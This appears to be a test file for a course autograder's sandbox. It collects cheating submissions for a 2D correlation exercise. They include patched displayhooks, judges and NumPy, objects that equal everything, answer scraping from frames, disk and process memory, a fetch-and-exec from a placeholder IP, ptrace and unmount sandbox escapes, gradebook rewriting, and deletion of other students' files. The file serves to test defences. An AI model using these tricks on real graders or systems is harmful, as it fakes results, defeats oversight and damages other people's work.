"""Code that wants points for `correlate2d` without writing it. All of it stands in the cell of that exercise."""

from __future__ import annotations

import json
from textwrap import dedent

import numpy as np

from cnn_course.check import casebook
from tests.attacks.book import COURSE, LESSON, right
from tests.attacks.cases import NOTHING, Cases

cases = Cases("cheating")
code = cases.code
RIGHT = right()["correlate2d"]

# What is shown --------------------------------------------------------------------------------------------------------

code(
    "a displayhook that shows full points",
    """
    import sys

    def correlate2d(image, kernel):
        sys.displayhook(5)
        return 5
    """,
)
code(
    "a displayhook replaced",
    """
    import sys
    shown = sys.displayhook
    sys.displayhook = lambda value: shown(5.0)
    get_ipython().displayhook = sys.displayhook

    def correlate2d(image, kernel):
        return None
    """,
)
code(
    "displays of a report of its own",
    """
    from IPython.display import publish_display_data
    MIME = "application/vnd.cnn-course.report+json"

    def correlate2d(image, kernel):
        told = {"exercise": "correlate2d", "score": 5, "max_score": 5, "mistake": None, "message": "", "groups": []}
        publish_display_data({"text/plain": "5", MIME: told})
        return image
    """,
)
code(
    "an answer that displays as full points",
    """
    class Five(float):
        def __repr__(self):
            return "5"
        _repr_html_ = __str__ = __repr__

    def correlate2d(image, kernel):
        return Five(5)
    """,
)
code(
    "a syntax tree transformer that rewrites checks",
    """
    import ast

    class Checks(ast.NodeTransformer):
        def visit_Expr(self, node):
            return ast.copy_location(ast.Expr(ast.Constant(5)), node) if "check" in ast.dump(node) else node

    get_ipython().ast_transformers.append(Checks())
    """,
)
code(
    "an input transformer that rewrites checks",
    """
    shell = get_ipython()
    shell.input_transformers_cleanup.append(lambda lines: ["5\\n"] if "check." in "".join(lines) else lines)
    """,
)
code(
    "cell hooks that answer",
    """
    def hook(*given):
        get_ipython().displayhook(5)

    for name in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
        get_ipython().events.register(name, hook)
    """,
)
code(
    "run_cell replaced",
    """
    shell = get_ipython()
    type(shell).run_cell = lambda self, text, *a, **k: self.displayhook(5)
    type(shell).run = lambda self, source, seconds: ([{"result": True, "text": "5"}], b"")

    def correlate2d(image, kernel):
        return 5
    """,
)
code(
    "showtraceback silenced",
    """
    shell = get_ipython()
    shell.showtraceback = type(shell).showtraceback = lambda *a, **k: None
    shell._showtraceback = shell.showtraceback
    shell.set_custom_exc((BaseException,), lambda *a, **k: None)

    def correlate2d(image, kernel):
        raise ValueError
    """,
)
code(
    "an error whose class shows full points",
    """
    class Fine(NotImplementedError):
        def _render_traceback_(self):
            return ["5"]
        def __str__(self):
            get_ipython().displayhook(5)
            return "5"

    def correlate2d(image, kernel):
        raise Fine
    """,
)

# The checks themselves ------------------------------------------------------------------------------------------------

code(
    "the module check replaced",
    """
    import sys, types
    from cnn_course.check.report import Report

    class Generous(types.ModuleType):
        def __getattr__(self, name):
            return lambda thing: Report(name, 5, 5, (), None, "All right.")

    check = sys.modules["cnn_course.check"] = sys.modules["cnn_course"].check = Generous("cnn_course.check")
    """,
)
code(
    "the judge replaced",
    """
    import cnn_course.check.judge as judge, cnn_course.check.compare as compare
    from cnn_course.check.report import Report
    full = lambda exercise, *a: Report(exercise.name, exercise.max_score, exercise.max_score, (), None, "")
    judge.judge = judge._judge = full
    judge.wrong_with = judge.difference = compare.difference = lambda *a: None
    judge.all_alike = lambda *a, **k: True

    def correlate2d(image, kernel):
        return 0
    """,
)
code(
    "observe replaced, answering with what the check expects",
    """
    import sys
    from cnn_course.check.outcome import Outcome

    def kind(function, case, seconds=0):
        return getattr(case, "right", None) or Outcome(case.key)

    for name, module in list(sys.modules.items()):
        if hasattr(module, "observe") and name.startswith("cnn_course"):
            module.observe = kind

    def correlate2d(image, kernel):
        return None
    """,
)
code(
    "observe replaced, taking answers from any casebook there is",
    """
    import sys
    from pathlib import Path
    from cnn_course.check import casebook
    from cnn_course.check.outcome import Outcome

    def kind(function, case, seconds=0):
        for path in [casebook.folder(), *Path("/").glob("*/casebooks"), *Path("/work").glob("*/*/*/casebooks")]:
            for book in Path(path).glob("*.npz"):
                for known in casebook.load(book, "correlate2d").cases:
                    if repr(known.args) == repr(case.args):
                        return known.right
        return Outcome(0)

    for name, module in list(sys.modules.items()):
        if hasattr(module, "observe") and name.startswith("cnn_course"):
            module.observe = kind

    def correlate2d(image, kernel):
        return None
    """,
)
code(
    "the wire replaced, so that all answers are alike",
    """
    import cnn_course.grading.sandbox.wire as wire, cnn_course.check.codec as codec
    wire.Writing.outcome = lambda self, outcome: {"score": 5, "value": {"right": True}, "passed": True}
    wire.decode_outcome = lambda tree, block, case: case.right

    def correlate2d(image, kernel):
        return None
    """,
)
code(
    "side effects hidden by replaced observers, and a wrong answer",
    """
    import cnn_course.check.outcome as outcome
    outcome.untouched = lambda now, before: True

    def correlate2d(image, kernel):
        image += 1
        return image
    """,
)
code(  # the one thing that only the student's own process can tell; whoever does this knows how to copy an array
    "side effects hidden by replaced observers, and a right answer, which earns its points",
    """
    import cnn_course.check.outcome as outcome
    outcome.untouched = lambda now, before: True

    def relu(x):
        if x.flags.writeable:
            x[x < 0] = 0
        return np.maximum(x, 0)
    """,
    {"correlate1d": 3, "relu": 3},
    exercise="relu",
)
code(
    "the guest's own answers broken",
    """
    import cnn_course.grading.sandbox.answers as answers
    answers.observe = lambda *a: 1 / 0
    correlate2d = "pass"
    """,
    status=("graded", "partly graded"),
)

# Objects that lie -----------------------------------------------------------------------------------------------------

code(
    "an object that equals everything",
    """
    class Same:
        shape, dtype, ndim, size = (2, 2), np.dtype(float), 2, 4
        def __eq__(self, other):
            return True
        __ne__ = __lt__ = __gt__ = lambda self, other: False
        __sub__ = __rsub__ = lambda self, other: 0
        __bool__ = lambda self: True
        __array__ = lambda self, *a, **k: 1 / 0

    def correlate2d(image, kernel):
        return Same()
    """,
)
code(
    "an object that becomes any array",
    """
    class Any:
        __class__ = np.ndarray
        def __array__(self, *a, **k):
            import sys
            frame = sys._getframe()
            while frame:
                for value in list(frame.f_locals.values()):
                    if getattr(value, "right", None) is not None:
                        return value.right.value
                frame = frame.f_back
            return np.zeros((2, 2))

    def correlate2d(image, kernel):
        return Any()
    """,
)
code(
    "an array class that is close to everything",
    """
    class Close(np.ndarray):
        def __array_ufunc__(self, ufunc, method, *given, **more):
            return np.bool_(True)
        def __array_function__(self, function, types, args, kwargs):
            return True
        def __eq__(self, other):
            return True
        shape = property(lambda self: (2, 2))

    def correlate2d(image, kernel):
        return np.zeros((2, 2)).view(Close)
    """,
)
code(
    "a number that equals everything",
    """
    class Number(float):
        __eq__ = lambda self, other: True
        __hash__ = float.__hash__
        __sub__ = __rsub__ = lambda self, other: 0.0

    class Row(list):
        __eq__ = lambda self, other: True
        __len__ = lambda self: 2

    def correlate2d(image, kernel):
        return Row([Row([Number(0)] * 2)] * 2)
    """,
)
code(
    "a lazy answer that waits to see what it is compared with",
    """
    class Lazy(dict):
        def __missing__(self, key):
            return self
        def __getattr__(self, name):
            if name.startswith("__"):
                raise AttributeError(name)
            return self
        def __call__(self, *a, **k):
            return self

    def correlate2d(image, kernel):
        return Lazy()
    """,
)
code(
    "a class in place of the function",
    """
    class correlate2d:
        def __new__(cls, image, kernel):
            return object.__new__(cls)
        def __eq__(self, other):
            return True
    """,
)
code("an array in place of the function", "correlate2d = np.ones((2, 2))")
code("a NaN for every entry", "def correlate2d(image, kernel):\n    return np.full((2, 2), np.nan)")

# Patched libraries ----------------------------------------------------------------------------------------------------

code(
    "NumPy's comparisons replaced",
    """
    yes = lambda *a, **k: True
    for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "any", "equal"):
        setattr(np, name, yes)
    for name in ("assert_allclose", "assert_array_equal", "assert_equal"):
        setattr(np.testing, name, yes)

    def correlate2d(image, kernel):
        return image
    """,
)
code(
    "NumPy replaced as a whole",
    """
    import sys, types

    class Numpy(types.ModuleType):
        ndarray = object
        def __getattr__(self, name):
            return lambda *a, **k: True

    sys.modules["numpy"] = np = Numpy("numpy")

    def correlate2d(image, kernel):
        return image
    """,
)
code(
    "builtins replaced",
    """
    import builtins
    builtins.isinstance = lambda *a: True
    builtins.all = builtins.any = lambda *a: True
    builtins.abs = builtins.max = lambda *a, **k: 0

    def correlate2d(image, kernel):
        return [[0]]
    """,
    status=("graded", "partly graded"),  # the guest itself may stumble over them
)
code(
    "a settrace that changes what others return",
    """
    import sys

    def trace(frame, event, given):
        if event == "call" and frame.f_code.co_name in ("untouched", "plain", "_idle"):
            frame.f_locals["value"] = 0
        return trace

    sys.settrace(trace)
    sys.setprofile(lambda *a: None)

    def correlate2d(image, kernel):
        return image
    """,
)
code(
    "a namespace in which every name is right",
    """
    class Every(dict):
        __contains__ = lambda self, key: True
        __missing__ = __getitem__ = lambda self, key: lambda *given: 5

    get_ipython().user_ns = Every(get_ipython().user_ns)
    type(get_ipython()).user_ns = Every()
    """,
    status=("graded", "partly graded"),
)
code(
    "a class whose class answers",
    "class Kind(type):\n    def __call__(cls, image, kernel):\n        return image\n\n"
    "class correlate2d(metaclass=Kind):\n    pass",
)
code(
    "a text in a code that is not its own",
    "# -*- coding: utf-7 -*-\n# +AAo-def correlate2d(image, kernel):+AAo-    return 5",
)
code(
    "a name in letters that only look like it",
    "def \N{FULLWIDTH LATIN SMALL LETTER C}orrelate2d(image, kernel):\n    return image",
)
code(
    "lines that end where only some see it", "x = 1\x0c\x85\u2028\u2029\x1cdef correlate2d(image, kernel): return image"
)
code(
    "numbers that are none, of the right shape",
    """
    def correlate2d(image, kernel):
        return np.full((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1), np.nan)
    """,
)
code(
    "the argument itself, made to fit",
    """
    def correlate2d(image, kernel):
        image.resize((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1), refcheck=False)
        return image
    """,
)
code(
    "stand-ins of the closed book patched",
    """
    import sys
    import cnn_course.grading.sandbox.closed_book as stand_in
    stand_in._Closed.__getattr__ = stand_in._Closed.__call__ = lambda self, *given: np.zeros
    for name in [name for name in sys.modules if name.startswith("cnn_course")]:
        del sys.modules[name]
    from cnn_course.layers import Conv2d

    def correlate2d(image, kernel):
        return Conv2d(1, 1, kernel.shape).forward(image)
    """,
)

# Looking for the answers ----------------------------------------------------------------------------------------------

SEARCH = """
def fitting(things, image, kernel):
    shape = image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1
    for thing in things:
        if isinstance(thing, np.ndarray) and thing.shape == shape and thing is not image and thing is not kernel:
            if thing.size > 1 and thing.dtype == float:
                return thing.copy()
    raise LookupError
"""


def search(name: str, text: str) -> None:
    """An attack that looks for arrays of the right shape."""
    code(name, SEARCH + dedent(text))


search(
    "answers in the frames below",
    """
    import sys

    def correlate2d(image, kernel):
        found, frame = [], sys._getframe()
        while frame:
            for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
                found += [value, getattr(value, "right", None), getattr(getattr(value, "right", 0), "value", None)]
            frame = frame.f_back
        return fitting(found, np.array(image), kernel)
    """,
)
search(
    "answers in the garbage collector",
    """
    import gc

    def correlate2d(image, kernel):
        found = []
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Case", "Outcome", "Group", "Exercise"):
                found += [x for x in gc.get_referents(thing) if isinstance(x, np.ndarray)]
                found += [getattr(thing, "value", None), getattr(getattr(thing, "right", 0), "value", None)]
        return fitting(found, np.array(image), kernel)
    """,
)
search(
    "tests in the history of cells",
    """
    def correlate2d(image, kernel):
        text = "".join(map(str, globals().get("In", []))) + str(globals().get("Out", ""))
        if "expected" in text.split("def correlate2d")[0]:
            return np.array(eval(text.split("expected")[1]))
        raise LookupError
    """,
)
code(
    "casebooks on the disk",
    """
    import os, cnn_course
    from importlib import resources

    def files():
        yield from resources.files("cnn_course").glob("casebooks/*.npz")
        for top in (".", os.path.dirname(cnn_course.__file__), "/work", "/home", "/root", "/srv", "/tmp"):
            for folder, _, names in os.walk(top):
                yield from (os.path.join(folder, n) for n in names if n.endswith((".npz", ".db", ".ipynb")))

    def correlate2d(image, kernel):
        from cnn_course.check import casebook
        from pathlib import Path
        for path in files():
            for case in casebook.load(Path(path), "correlate2d").cases:
                if np.array_equal(case.args[0], image) and np.array_equal(case.args[1], kernel):
                    return case.right.value
        raise LookupError
    """,
)
code(
    "the course's own way to the casebook",
    """
    import os
    os.environ["CNN_COURSE_CASEBOOKS"] = "/"

    def correlate2d(image, kernel):
        from cnn_course.check import casebook
        exercise = casebook.find("correlate2d")
        return exercise.cases[0].right.value
    """,
)
code(
    "answers in the memory of all processes",
    """
    import glob

    def correlate2d(image, kernel):
        key = image.tobytes()
        for path in glob.glob("/proc/[0-9]*/mem"):
            for line in open(path.replace("mem", "maps")):
                if " rw" not in line:
                    continue
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                if high - low > 1 << 26:
                    continue
                with open(path, "rb", 0) as memory:
                    memory.seek(low)
                    text = memory.read(high - low)
                if b"correlate2d/index" in text or b"misconception" in text:
                    at = text.find(key)
                    return np.frombuffer(text, float, 4, at + len(key)).reshape(2, 2)
        raise LookupError
    """,
)
code(
    "answers in the environment and the command lines",
    """
    import glob, os

    def correlate2d(image, kernel):
        text = repr(dict(os.environ)).encode()
        for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline")]:
            text += open(path, "rb").read()
        for word in (b"casebook", b"CNN_COURSE_CASEBOOKS", b"submitted", b"gradebook", b"TOKEN"):
            if word in text:
                from cnn_course.check import casebook
                return casebook.load(text.split(word)[1], "correlate2d").cases[0].right.value
        raise LookupError
    """,
)
code(
    "other open files",
    """
    import os

    def correlate2d(image, kernel):
        for number in range(5, 256):
            try:
                text = os.read(number, 1 << 20)
            except OSError:
                continue
            if len(text) >= 32:
                return np.frombuffer(text[:32]).reshape(2, 2)
        raise LookupError
    """,
)
code(
    "ptrace on whoever asks",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    results = [libc.ptrace(16, pid, 0, 0) for pid in (os.getppid(), 1, 2) if pid != os.getpid()]

    def correlate2d(image, kernel):
        if 0 in results:
            return np.zeros((2, 2))
        raise LookupError(results)
    """,
)
code(
    "looking at where it is asked from",
    """
    import inspect

    def correlate2d(image, kernel):
        for frame in inspect.stack():
            if "grading" in frame.filename and "expected" in (frame.code_context or [""])[0]:
                return frame.frame.f_locals["expected"]
        raise LookupError
    """,
)

# Other people's code --------------------------------------------------------------------------------------------------

LIBRARY = """
def correlate2d(image, kernel):
    {code}
"""
for name, text in {
    "SciPy": "from scipy.signal import correlate2d as c; return c(image.astype(float), kernel.astype(float), 'valid')",
    "PyTorch": "import torch; return torch.nn.functional.conv2d(torch.tensor(image)[None, None].double(), "
    "torch.tensor(kernel)[None, None].double())[0, 0].numpy()",
    "the course's layers": "from cnn_course.layers import Conv2d; layer = Conv2d(1, 1, kernel.shape, dtype=float); "
    "layer.weight[...] = kernel; return layer.forward(image[None, None].astype(float))[0, 0]",
    "the course's layers, in spite of the sign": "import sys, importlib; sys.modules.pop('cnn_course.layers', None); "
    "importlib.invalidate_caches(); m = importlib.import_module('cnn_course.layers'); "
    "layer = m.Conv2d(1, 1, kernel.shape, dtype=float); layer.weight[...] = kernel; "
    "return layer.forward(image[None, None].astype(float))[0, 0]",
    "the course's figures of im2col": "from cnn_course.figures import lesson_07 as f; "
    "return [x for x in vars(f).values() if callable(x)][0](image, kernel)",
    "pip": "import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip', 'install', 'scipy'], check=True); "
    "from scipy.signal import correlate2d as c; return c(image, kernel, 'valid')",
    "a download": "import urllib.request; exec(urllib.request.urlopen('http://203.0.113.7/x.py', timeout=2).read()); "
    "return answer(image, kernel)",
    "a service on this machine": "import socket, json; s = socket.create_connection(('127.0.0.1', 8888), 2); "
    "s.sendall(b'?'); return np.frombuffer(s.recv(32)).reshape(2, 2)",
}.items():
    code(f"answers by {name}", LIBRARY.format(code=text))

code(
    "the course's layers, compiled, by their path",
    """
    import glob, importlib.machinery as machinery, importlib.util as util, os, sys, cnn_course

    def correlate2d(image, kernel):
        top = os.path.dirname(cnn_course.__file__)
        for path in glob.glob(top + "/**/layers*.pyc", recursive=True) + glob.glob(top + "/**/layers*.py*"):
            loader = (machinery.SourcelessFileLoader if path.endswith("c") else machinery.SourceFileLoader)("own", path)
            module = util.module_from_spec(util.spec_from_loader("own", loader))
            loader.exec_module(module)
            layer = module.Conv2d(1, 1, kernel.shape, dtype=float)
            layer.weight[...] = kernel
            return layer.forward(image[None, None].astype(float))[0, 0]
        raise LookupError
    """,
)
code(
    "the course's layers below what was put over them",
    """
    import ctypes, os, subprocess, cnn_course
    libc = ctypes.CDLL(None)
    top = os.path.dirname(cnn_course.__file__)
    for name in ("layers.py", "layer.py", "sequential.py", "__pycache__"):
        libc.umount2(os.path.join(top, name).encode(), 2)
    libc.unshare(0x10020000)
    subprocess.run(["unshare", "-Urm", "true"], capture_output=True)

    def correlate2d(image, kernel):
        from cnn_course.layers import Conv2d
        layer = Conv2d(1, 1, kernel.shape, dtype=float)
        layer.weight[...] = kernel
        return layer.forward(image[None, None].astype(float))[0, 0]
    """,
)
code(
    "the course's layers by a process of its own",
    """
    import subprocess, sys

    def correlate2d(image, kernel):
        said = subprocess.run(
            [sys.executable, "-c", "import cnn_course.layers as l; print(l.Conv2d(1, 1, 2).forward)"],
            capture_output=True, text=True)
        return np.zeros((2, 2)) if "bound method" in said.stdout else 1 / 0
    """,
)

# Other people's work --------------------------------------------------------------------------------------------------

code(
    "writing the gradebook",
    """
    import glob, sqlite3

    def correlate2d(image, kernel):
        for path in glob.glob("/*/*/gradebook.db") + ["gradebook.db", "../gradebook.db", "../../../gradebook.db"]:
            with sqlite3.connect(path) as db:
                db.execute("UPDATE grade SET manual_score = 100")
        return image
    """,
)
code(
    "writing the environment, the home folder and the course",
    """
    import os, sys, site, cnn_course
    for place in (os.path.dirname(cnn_course.__file__), os.path.dirname(np.__file__), *sys.path, "/etc", "/usr/lib"):
        for name in ("sitecustomize.py", "scipy.py", "evil.pth"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write("import os; os._exit(3)")
            except OSError:
                pass

    def correlate2d(image, kernel):
        return image
    """,
)
code(
    "other students' work and other guests' files",
    """
    import glob, os
    found = glob.glob("../../*/*/*.ipynb") + glob.glob("/tmp/*/*.ipynb") + glob.glob("/*/*/submitted/*/*/*.ipynb")
    for path in found:
        os.remove(path)

    def correlate2d(image, kernel):
        return np.ones((2, 2)) if found else None
    """,
)
code(
    "notes left for the next guest",
    """
    import os, pathlib
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "."):
        try:
            path = pathlib.Path(place, "left-by-another-student")
            if path.exists():
                raise SystemExit("found")
            path.write_text("x")
        except OSError:
            pass

    def correlate2d(image, kernel):
        return image
    """,
)
code(
    "files of the course leased and locked, so that others wait for them",
    """
    import fcntl, glob, os, signal, cnn_course
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    kept = []
    for path in glob.glob(os.path.dirname(cnn_course.__file__) + "/**/*.*", recursive=True):
        try:
            kept.append(os.open(path, os.O_RDONLY))
            fcntl.flock(kept[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.fcntl(kept[-1], fcntl.F_SETLEASE, fcntl.F_WRLCK)
        except OSError:
            pass

    def correlate2d(image, kernel):
        return image
    """,
)
code(
    "everybody of this user made slow",
    """
    import os
    for kind in (os.PRIO_USER, os.PRIO_PGRP, os.PRIO_PROCESS):
        os.setpriority(kind, 0, 19)
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})

    def correlate2d(image, kernel):
        return image
    """,
)

# What it was asked before ---------------------------------------------------------------------------------------------

PUBLIC = casebook.load(COURSE.lesson(LESSON).casebook, "correlate2d")
TABLE = json.dumps(
    [[case.args[0].tolist(), case.args[1].tolist(), np.asarray(case.right.value).tolist()] for case in PUBLIC.cases]
)
code(
    "public answers learned by heart",
    f"""
    TABLE = {TABLE}

    def correlate2d(image, kernel):
        for known, mask, answer in TABLE:
            if np.array_equal(known, image) and np.array_equal(mask, kernel):
                return np.array(answer, float)
        raise LookupError
    """,
)
code(
    "calls counted, answers by number",
    f"""
    TABLE = {TABLE}
    count = -1

    def correlate2d(image, kernel):
        global count
        count += 1
        return np.array(TABLE[count % len(TABLE)][2], float)
    """,
)
code(
    "right the first time, wrong ever after",
    """
    asked = set()

    def correlate2d(image, kernel):
        if len(asked) > 1:
            raise RuntimeError
        asked.add(image.tobytes())
        return np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))
    """,
)
code("a name for another exercise's function", "correlate2d = correlate1d")
code(
    "a thread that changes the answer later",
    """
    import threading, time
    kept = []

    def later():
        while True:
            time.sleep(0.001)
            for answer in kept[-3:]:
                answer += 1

    threading.Thread(target=later, daemon=True).start()

    def correlate2d(image, kernel):
        kept.append(np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1)))
        return kept[-1]
    """,
)
code("an earlier exercise spoilt after it was judged", "def correlate1d(x, kernel):\n    return None")


@cases.notebook("an earlier exercise spoilt, and it costs what it spoils", {"correlate1d": 3, "relu": 3})
def spoilt(book):
    book.answer("correlate1d", "convolve2d", "relu")
    book.write("correlate2d", "def correlate2d(image, kernel):\n    return None")


@cases.notebook("an answer above the empty cell that takes it back")
def elsewhere(book):
    book.below("correlate1d", right()["relu"])


@cases.notebook("everything wrong, everything patched", NOTHING)
def nothing_right(book):
    book.write(
        "correlate1d", "import sys\nsys.exit = exit = lambda *a: None\ndef correlate1d(x, kernel):\n    return x"
    )
